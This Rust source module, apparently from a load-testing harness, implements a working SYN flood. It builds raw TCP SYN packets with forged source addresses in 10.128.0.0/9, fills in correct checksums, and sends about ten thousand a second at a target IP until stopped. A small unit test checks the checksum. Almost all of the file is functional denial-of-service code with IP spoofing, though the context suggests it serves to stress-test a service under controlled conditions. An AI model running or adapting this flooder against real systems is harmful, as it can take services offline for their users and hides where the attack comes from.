//! A SYN flood: connections that somebody begins under names that are not his and never goes on with.

use super::load::{PORT, stay_on};
use anyhow::Context;
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

/// So many at once, and how long it then waits: some ten thousand a second.
const AT_ONCE: u32 = 10;
const PAUSE: Duration = Duration::from_millis(1);

/// Sends until it is killed. It needs CAP_NET_RAW.
pub(crate) fn send(ip: &str) -> anyhow::Result<()> {
    // Where the other clients are.
    stay_on(0)?;
    let to: Ipv4Addr = ip.parse()?;
    let socket = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW)).context("a raw socket")?;
    println!("ready");
    for number in 0_u32.. {
        // From 10.128.0.0/9, where nobody is.
        let from = Ipv4Addr::from_bits(0x0a80_0000 | number.wrapping_mul(2_654_435_761) >> 9);
        sendto(&socket, &packet(from, to, number), SendFlags::empty(), &SocketAddrV4::new(to, 0))?;
        if number % AT_ONCE == 0 {
            std::thread::sleep(PAUSE);
        }
    }
    Ok(())
}

/// The first packet of a connection. The kernel fills in what of the IP header is 0.
fn packet(from: Ipv4Addr, to: Ipv4Addr, number: u32) -> Vec<u8> {
    let mut tcp = Vec::new();
    tcp.extend((1024 + (number % 60_000) as u16).to_be_bytes());
    tcp.extend(PORT.to_be_bytes());
    tcp.extend(number.to_be_bytes());
    tcp.extend([0, 0, 0, 0, 5 << 4, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
    let sum = checksum(&[&from.octets(), &to.octets(), &[0, 6, 0, 20], tcp.as_slice()].concat());
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    let mut packet = vec![0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6, 0, 0];
    packet.extend(from.octets());
    packet.extend(to.octets());
    packet.extend(tcp);
    packet
}

/// The Internet's checksum (RFC 1071), of an even number of bytes.
fn checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 = bytes.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(pair[1])).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_packet_carries_the_right_checksum() {
        let (from, to) = (Ipv4Addr::new(10, 200, 1, 2), Ipv4Addr::new(10, 9, 0, 5));
        let packet = packet(from, to, 77);
        assert_eq!(packet.len(), 40);
        assert_eq!(
            checksum(&[&packet[12..20], &[0, 6, 0, 20], &packet[20..]].concat()),
            0,
            "summed with itself it is nothing"
        );
    }
}
